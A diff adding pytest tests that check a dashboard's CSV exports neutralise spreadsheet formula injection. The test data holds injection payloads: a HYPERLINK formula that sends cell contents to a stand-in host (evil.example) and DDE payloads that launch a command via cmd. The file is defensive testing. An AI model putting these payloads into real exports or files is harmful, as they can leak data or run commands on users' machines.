@@ -50,3 +50,60 @@ def test_minsize_of_a_huge_number_filters_everything_it_says(seeds_env):
             continue
         assert shown == MAX_MIN_SIZE  # the box shows the filter in force, not "1"
         assert not spec_of(map_args(at))["badges"]  # and no caravan is that large
+
+
+# --------------------------------------------------------------------------- 10. CSV export
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _csv_cells(text: str) -> list[str]:
+    import csv
+    import io
+    return [c for row in list(csv.reader(io.StringIO(text)))[1:] for c in row]
+
+
+def _live_formula(cell: str) -> bool:
+    """What a spreadsheet would evaluate: a cell starting with = + - @ (or a tab/CR before
+    one) that is not simply a number."""
+    try:
+        float(cell)
+        return False
+    except ValueError:
+        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_export_neutralises_formulas(dashboard_sample_document, formula):
+    from dashboard import journey
+
+    tried()
+    doc = dashboard_sample_document
+    for a in doc["articles"]:
+        a["title"], a["outlet"] = formula, formula
+    for c in doc["caravans"]:
+        c["label"] = formula
+        for o in c["observations"]:
+            if o["place"]:
+                o["place"]["name"] = formula
+    atlas = journey.build_atlas(doc)
+    out = journey.to_csv(journey.table_rows(atlas, journey.visible_stops(atlas, ViewState())))
+    cells = _csv_cells(out)
+    assert not [c for c in cells if _live_formula(c)]
+    assert any(c == "'" + formula for c in cells)  # kept, readable, inert
+    # numbers stay numbers: a negative longitude is not a formula
+    assert "-92.25891" in cells
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_places_csv_neutralises_formulas(formula):
+    from dashboard import overview
+
+    tried()
+    row = {"place_name": formula, "admin1": None, "country_code": None, "kind": "city", "lat": 1.5, "lon": -92.3,
+           "caravans": 1, "facts": 2, "roles": {"departure": 1}, "first": "2024-01-01", "last": "2024-01-02",
+           "largest": 3000}
+    cells = _csv_cells(overview.places_csv([row]))
+    assert not [c for c in cells if _live_formula(c)]
+    assert "-92.3" in cells
